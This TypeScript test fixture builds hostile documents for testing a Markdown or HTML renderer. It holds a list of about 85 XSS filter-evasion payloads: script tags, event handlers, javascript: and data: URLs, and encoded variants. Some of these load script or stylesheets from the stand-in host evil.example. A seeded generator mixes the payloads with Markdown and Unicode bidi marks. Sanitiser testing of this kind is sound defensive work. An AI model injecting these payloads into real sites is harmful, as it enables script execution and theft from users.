/** A picture that some of the texts name. */
export const PICTURE = "0b7a4b00-1111-4222-8333-444455556666";

/** The OWASP list of what gets past filters (XSS Filter Evasion Cheat Sheet), each also as a text of its own. */
export const EVASIONS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<SCRIPT/XSS SRC='https://evil.example/xss.js'></SCRIPT>",
  "<SCRIPT SRC=https://evil.example/xss.js?< B >",
  "<<SCRIPT>alert(1);//\\<</SCRIPT>",
  "</script><script>alert(1)</script>",
  "</TITLE><SCRIPT>alert(1);</SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=x:x onerror\u2028=alert(1)>",
  "<IMG SRC=javascript:alert(1)>",
  "<IMG SRC=JaVaScRiPt:alert(1)>",
  "<IMG SRC=`javascript:alert(1)`>",
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  "<IMG SRC=# onmouseover=alert(1)>",
  "<IMG onmouseover=alert(1)>",
  "<IMG SRC=/ onerror=alert(1)></img>",
  "<img src=x onerror=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>",
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=" &#14; javascript:alert(1);">',
  "<IMG SRC='vbscript:msgbox(1)'>",
  '<IMG DYNSRC="javascript:alert(1)">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
  "<IMG SRC=https://evil.example/p.png>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  "<iframe src=https://evil.example/scriptlet.html <",
  "<FRAMESET><FRAME SRC=javascript:alert(1)></FRAMESET>",
  "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
  "<a onmouseover=alert(1)>x</a>",
  "<A HREF=//0x42.0x0000066.0x7.0x93/>x</A>",
  "<body onload=alert(1)>",
  '<BODY BACKGROUND="javascript:alert(1)">',
  "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
  "<BGSOUND SRC=javascript:alert(1);>",
  '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
  "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
  "<STYLE>body{-moz-binding:url('https://evil.example/x.xml#xss')}</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=https://evil.example/">',
  '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">',
  '<BASE HREF="javascript:alert(1);//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" AllowScriptAccess="always"></EMBED>',
  '<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">',
  '<DIV STYLE="position:fixed;inset:0;background:url(javascript:alert(1))">',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);" autofocus onfocus=alert(1)>',
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<form id=test></form><button form=test formaction=javascript:alert(1)>x</button>",
  "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
  "<? echo('<SCR)';echo('IPT>alert(1)</SCRIPT>'); ?>",
  "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "¼script¾alert(1)¼/script¾",
  "+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-",
  "';alert(String.fromCharCode(88,83,83))//\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java\nscript:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](&Tab;javascript&colon;alert&lpar;1&rpar;)",
  "[a](\u0001javascript:alert(1))",
  "[a](vbscript:msgbox(1))",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](//evil.example)",
  "[a](/\\evil.example)",
  "![a](javascript:alert(1))",
  "![a](https://evil.example/p.png)",
  `![a](image:${PICTURE}#99999x1)`,
  `![a](image:${PICTURE} "onload=alert(1)")`,
  '[a](https://x.example "onmouseover=alert(1)")',
  '[a](https://x.example/"onmouseover="alert(1))',
  "<javascript:alert(1)>",
  "<https://x.example/'onclick='alert(1)>",
  "[@a](member:1)",
  "[a](member:javascript)",
  "> [a](post:1)\n",
] as const;

/** The marks of Markdown to mix them with, and signs that turn or pile up what stands beside them. */
const MARKS = [
  "||",
  "**",
  "_",
  "`",
  "```\n",
  "\n\n",
  "\n",
  "> ",
  "- ",
  "1. ",
  "# ",
  "| a | b |\n| - | - |\n",
  "\u202e",
  "\u2067",
  "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
  "&lt;script&gt;",
  "\\",
  "[",
  "](",
  ")",
  "[x]: javascript:alert(1)\n",
  "釣り",
  "سمك",
  " words ",
];
const PIECES = [...EVASIONS, ...MARKS, ...MARKS];

/** Mulberry32: the same documents in each run. */
function numbers(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = Math.trunc(state + 0x6d2b79f5);
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed);
    return Math.floor((((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32) * below);
  };
}

/** So many texts, each of up to 24 pieces: for tests of what shows them. */
export function hostileDocuments(count: number, seed = 7): string[] {
  const below = numbers(seed);
  const text = (): string =>
    Array.from({ length: 1 + below(24) }, () => PIECES[below(PIECES.length)] ?? "").join("");
  return Array.from({ length: count }, text);
}
